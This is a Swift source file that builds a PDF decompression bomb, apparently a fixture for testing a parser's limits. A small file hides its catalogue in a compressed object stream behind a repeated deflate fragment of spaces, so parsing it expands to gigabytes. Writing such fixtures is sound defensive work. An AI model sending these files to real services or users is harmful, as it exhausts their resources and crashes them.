import FoundationEssentials

/// A PDF of a few megabytes that becomes gigabytes as soon as somebody looks for its catalogue.
enum DocumentBomb {
    /// The catalogue stands in a stream of objects, behind so many spaces.
    static func bytes(expanded: Int) -> [UInt8] {
        let times = expanded / fragmentBytes
        let stream = [0x78, 0x9C] + Array(repeatElement(fragment, count: times).joined())
        var file = Array("%PDF-1.7\n".utf8)
        var offsets: [Int: Int] = [:]
        func add(_ number: Int, _ dictionary: String, _ stream: [UInt8]? = nil) {
            offsets[number] = file.count
            file += Array("\(number) 0 obj\n\(dictionary)\n".utf8)
            if let stream {
                file += Array("stream\n".utf8) + stream + Array("\nendstream\n".utf8)
            }
            file += Array("endobj\n".utf8)
        }
        add(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
        let packed = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length \(stream.count)"
        add(4, "<< \(packed) >>", stream)
        let start = file.count
        offsets[5] = start
        // Of each object: whether it stands by itself or in a stream, and where (ISO 32000-1, 7.5.8).
        var table: [UInt8] = [0, 0, 0, 0, 0, 0] + [2, 0, 0, 0, 4, 0]
        for number in 2...5 {
            let offset = offsets[number] ?? 0
            table.append(1)
            table += [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: offset >> $0) } + [0]
        }
        let index = "/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length \(table.count)"
        add(5, "<< \(index) >>", table)
        return file + Array("startxref\n\(start)\n%%EOF\n".utf8)
    }

    private static let fragmentBytes = 262_144

    /// So many spaces, packed so that the piece can stand behind itself.
    private static let fragment = Array(
        Data(
            base64Encoded: """
                7MExAQAAAMKgKuuf0tsOQAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
                AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
                AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
                AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
                AAAAAAAAvAEAAP//
                """
        ) ?? Data()
    )
}
